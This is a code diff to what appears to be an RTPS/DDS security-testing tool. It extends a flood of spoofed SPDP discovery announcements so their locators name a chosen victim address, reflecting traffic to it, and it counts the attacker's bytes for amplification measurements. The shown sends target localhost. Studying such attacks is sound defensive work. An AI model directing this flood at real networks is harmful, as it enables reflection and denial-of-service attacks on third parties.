@@ -8,9 +8,15 @@ import { prng } from './rtps-fuzz/prng.js';
 /** The longest lease SPDP can say: 0x7fffffff seconds (68 years). */
 export const HUGE_LEASE_SEC = 0x7fffffff;
 
-/** One SPDP datagram announcing a participant with prefix `prefix` (12 bytes); its locators point at the discard port. */
-export function spoofedSpdp(prefix: Buffer, domainId: number, leaseSec = HUGE_LEASE_SEC): Buffer {
-  return spdpDatagram(prefix, domainId, 9, leaseSec);
+/** Where a spoofed participant says it receives: a victim's address and port (127.0.0.1:9, the discard port, by default). */
+export interface VictimLocator {
+  address: string;
+  port: number;
+}
+
+/** One SPDP datagram announcing a participant with prefix `prefix` (12 bytes); its locators point at `at`. */
+export function spoofedSpdp(prefix: Buffer, domainId: number, leaseSec = HUGE_LEASE_SEC, at: VictimLocator = { address: '127.0.0.1', port: 9 }): Buffer {
+  return spdpDatagram(prefix, domainId, at.port, leaseSec, at.address.split('.').map(Number));
 }
 
 export interface FloodOptions {
@@ -34,6 +40,10 @@ export interface FloodOptions {
    * to the target's writer: what used to prove a participant (issue 66).
    */
   blindAcknack?: boolean;
+  /** Where every fake says it receives (the discard port by default): a victim the flood would reflect traffic to. */
+  victim?: VictimLocator;
+  /** Bytes sent are added here (the attacker's cost, for amplification figures). */
+  sentBytes?: { n: number };
 }
 
 /** A blind ACKNACK from `prefix`'s SEDP publications reader, appended to an SPDP datagram of it. */
@@ -63,9 +73,10 @@ export async function floodSpdp(o: FloodOptions): Promise<number> {
       for (let i = 0; i < batch && sent < o.count; i++, sent++) {
         const prefix = Buffer.alloc(12);
         for (let j = 0; j < 12; j++) prefix[j] = Math.floor(rand() * 256);
-        const spdp = spoofedSpdp(prefix, o.domainId, o.leaseSec);
+        const spdp = spoofedSpdp(prefix, o.domainId, o.leaseSec, o.victim);
         const d = o.blindAcknack ? withBlindAcknack(spdp, sent + 1) : spdp;
         const s = sockets[sent % sockets.length];
+        if (o.sentBytes) o.sentBytes.n += d.length * o.ports.length;
         for (const port of o.ports) pending.push(new Promise((resolve) => s.send(d, port, '127.0.0.1', () => resolve())));
       }
       await Promise.all(pending);
